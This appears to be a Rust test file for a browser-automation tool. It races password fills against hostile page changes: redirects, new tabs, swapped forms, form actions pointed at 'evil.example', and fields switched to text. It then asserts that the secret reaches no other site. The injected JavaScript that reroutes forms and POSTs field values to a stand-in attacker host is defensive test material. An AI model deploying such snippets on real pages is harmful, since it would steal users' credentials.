//! What happens to a page between the look at a field and the fill: the field is still the one that was looked at, or nothing
//! goes in, and nothing of it ever reaches another site.
//!
//! Each race is run a hundred times at moments drawn from a fixed seed, a thousand times with `GUISE_TEST_SOAK`.

use std::time::{Duration, Instant};

use guise_core::ports::Browser as _;
use guise_core::{Action, FillWay, Timestamp};
use rand::rngs::StdRng;
use rand::{Rng as _, SeedableRng as _};
use rstest::rstest;
use serde_json::Value;

use super::in_page::{painted, picture};
use super::world::{PASSWORD, World};
use super::wrong::{FIELD, HOST, made, world};
use crate::stage::{by, fill, soon};

fn rounds() -> usize {
    match std::env::var_os("GUISE_TEST_SOAK") {
        Some(_) => 1000,
        None => 100,
    }
}

/// What the page in front is after a round.
#[derive(Debug)]
struct After {
    /// The fill said that it worked.
    filled: bool,
    host: String,
    /// What the field holds; nothing where there is none.
    value: Option<String>,
    /// Where its form sends.
    action: String,
}

impl After {
    /// The page in front, once it answers: one that is just going away does not.
    async fn of(world: &World, filled: bool) -> Self {
        let code = "(() => { const field = document.querySelector('#password');
            return JSON.stringify([location.hostname, field?.value ?? null, field?.form?.action ?? '']) })()";
        let until = soon();
        loop {
            let outcome = evaluate(world, code).await;
            let data =
                outcome.and_then(|data| serde_json::from_str::<[Option<String>; 3]>(&data).ok());
            if let Some([host, value, action]) = data {
                return Self {
                    filled,
                    host: host.unwrap_or_default(),
                    value,
                    action: action.unwrap_or_default(),
                };
            }
            assert!(tokio::time::Instant::now() < until, "the page says nothing");
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
    }

    fn holds(&self, secret: &str) -> bool {
        self.value.as_deref() == Some(secret)
    }
}

/// What a script of the page's own gives; nothing where the page went away meanwhile.
async fn evaluate(world: &World, code: &str) -> Option<String> {
    let code = code.to_owned();
    let performed = world.stage.perform(Action::EvaluateJs { code }).await;
    performed.outcome.data.map(|data| data.markdown)
}

/// The latest moment of a change, in milliseconds after the page was told of it: twice what a fill takes that nothing
/// comes in between of. So changes come before a fill and after it, whatever the machine is.
async fn latest(world: &World) -> f64 {
    let mut took = Vec::new();
    for _ in 0..5 {
        // As in the race: from another site, thus in a new process.
        world.goto(&made("evil.example", FIELD)).await;
        world.goto(&made(HOST, FIELD)).await;
        let began = Instant::now();
        world.fills("#password", PASSWORD).await;
        took.push(began.elapsed());
    }
    world.stage.site.reset();
    took.sort_unstable();
    2.0 * took[took.len() / 2].as_secs_f64() * 1000.0
}

/// Fills the field again and again while `change` happens, has whatever is in front then sent by a script, and gives what each
/// round led to. Nothing but the site ever gets the secret.
async fn race(world: &World, change: &str, mut look: impl AsyncFnMut(&After)) -> Vec<After> {
    let mut moments = StdRng::seed_from_u64(12);
    let latest = latest(world).await;
    let mut all = Vec::new();
    for round in 0..rounds() {
        // Each is a document of its own.
        world
            .goto(&made(HOST, &format!("{FIELD}<p>{round}</p>")))
            .await;
        let moment = moments.random_range(0.0..latest);
        let arm = format!("setTimeout(() => {{ {change} }}, {moment}); 0");
        world.stage.evaluate(&arm).await;
        let mut target = by("#password");
        target.timeout_ms = 1000;
        let outcome = world.perform(fill(target, PASSWORD)).await.outcome;
        world.says_nothing(&outcome.message);
        let after = After::of(world, outcome.success).await;
        look(&after).await;
        let send = "(() => { const form = document.querySelector('form');
            return fetch(form.action, { method: 'POST', mode: 'no-cors', body: new URLSearchParams(new FormData(form)) })
              .then(() => 'sent', () => 'failed') })()";
        evaluate(world, send).await;
        for take in world.stage.site.takes() {
            if take.host != HOST {
                world.says_nothing_in("what another site got", &format!("{take:?}"));
                world.says_nothing_in("a body", &take.body);
            }
        }
        let hits = world.stage.site.hits();
        world.says_nothing_in("an address or a header", &format!("{hits:?}"));
        world.stage.site.reset();
        all.push(after);
    }
    all
}

/// The change came now before the fill and now after it, or there was no race.
fn both(all: &[After]) {
    let filled = all.iter().filter(|after| after.filled).count();
    let count = all.len();
    assert!(
        0 < filled && filled < count,
        "there was no race: {filled} of {count} fills came first"
    );
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn the_page_goes_elsewhere(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    // W12
    let world = world(way).await;
    let change = format!("location.href = {:?}", made("evil.example", FIELD));
    let all = race(&world, &change, async |after| {
        // Once it has gone, the other page's form is sent.
        let mut there = After::of(&world, false).await;
        let until = soon();
        while there.host == HOST {
            assert!(tokio::time::Instant::now() < until, "the page never went");
            there = After::of(&world, false).await;
        }
        for after in [after, &there] {
            let stays = !after.holds(world.password()) || after.host == HOST;
            assert!(stays, "{after:?}");
        }
    })
    .await;
    let early = all.iter().filter(|after| after.host != HOST).count();
    let count = all.len();
    assert!(
        0 < early && early < count,
        "there was no race: {early} of {count} pages went before"
    );
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn another_tab_comes_to_the_front(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    // W11
    let world = world(way).await;
    let change = format!("window.open({:?})", made("evil.example", FIELD));
    let all = race(&world, &change, async |_| {
        let until = soon();
        while world.stage.browser.tabs().await.unwrap().0.len() < 2 {
            assert!(tokio::time::Instant::now() < until, "no tab was opened");
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        world.stage.done(Action::SwitchTab { tab_index: -1 }).await;
        let there = After::of(&world, false).await;
        assert!(!there.holds(world.password()), "{there:?}");
        // What is in its field is sent, too.
        let send = "fetch('/sign-in/to/evil', { method: 'POST', body: document.querySelector('#password')?.value ?? '' })";
        evaluate(&world, send).await;
        world.stage.done(Action::CloseTab).await;
    })
    .await;
    assert!(all.iter().any(|after| after.filled));
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn another_field_takes_its_place(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    let world = world(way).await;
    let change = "const form = document.createElement('form');
        form.method = 'post';
        form.action = 'https://evil.example/sign-in/to/evil';
        form.append(Object.assign(document.querySelector('#password').cloneNode(), { value: '' }));
        document.querySelector('form').replaceWith(form);";
    let all = race(&world, change, async |after| {
        let right = !after.action.contains("evil") || after.value.as_deref() == Some("");
        assert!(right, "{after:?}");
    })
    .await;
    both(&all);
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn the_form_sends_elsewhere(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    // W13
    let world = world(way).await;
    let change = "document.querySelector('form').action = 'https://evil.example/sign-in/to/evil'";
    both(&race(&world, change, async |_| {}).await);
    world.end().await;
}

#[rstest]
#[tokio::test(flavor = "multi_thread")]
async fn the_field_becomes_one_for_text(#[values(FillWay::Wire, FillWay::Page)] way: FillWay) {
    // W24
    let world = world(way).await;
    let change = "document.querySelector('#password').type = 'text'";
    let all = race(&world, change, async |after| {
        let mut seen = world.stage.observe().await;
        // Six digits of a moment are now and then those of a code.
        let then = Timestamp::from_micros(0);
        (seen.started_at, seen.ended_at, seen.timestamp) = (then, then, None);
        world.says_nothing_in("an observation", &format!("{seen:?}"));
        world.says_nothing_in("its description", &seen.description);
        if after.holds(world.password()) {
            let place =
                "JSON.stringify(document.querySelector('#password').getBoundingClientRect())";
            let place = evaluate(&world, place).await.unwrap();
            let place: Value = serde_json::from_str(&place).unwrap();
            painted(&picture(&seen.screenshot.jpeg), &place, "the field");
        }
    })
    .await;
    both(&all);
    world.end().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_form_changes_its_mind_all_the_time() {
    let world = world(FillWay::Page).await;
    // It says now this and now that, and keeps what it said when something was filled in.
    let script = "<script>
        const form = document.querySelector('form');
        const channel = new MessageChannel();
        let turn = 0;
        channel.port1.onmessage = () => {
          turn += 1;
          form.action = turn % 2 ? 'https://evil.example/sign-in/to/evil' : '/sign-in/to/here';
          channel.port2.postMessage(0);
        };
        channel.port2.postMessage(0);
        window.said = [];
        form.addEventListener('input', () => said.push(form.action));
      </script>";
    let mut filled = 0;
    for round in 0..40 {
        let body = format!("{FIELD}{script}<p>{round}");
        world.goto(&made(HOST, &body)).await;
        let mut target = by("#password");
        target.timeout_ms = 1000;
        let outcome = world.perform(fill(target, PASSWORD)).await.outcome;
        world.says_nothing(&outcome.message);
        filled += u32::from(outcome.success);
        let said = world.stage.evaluate("said.join()").await;
        assert!(!said.contains("evil"), "{said}");
        assert_eq!(said.is_empty(), !outcome.success, "{}", outcome.message);
    }
    assert!(filled < 40, "it never changed in between");
    world.leaks_nothing();
    world.end().await;
}
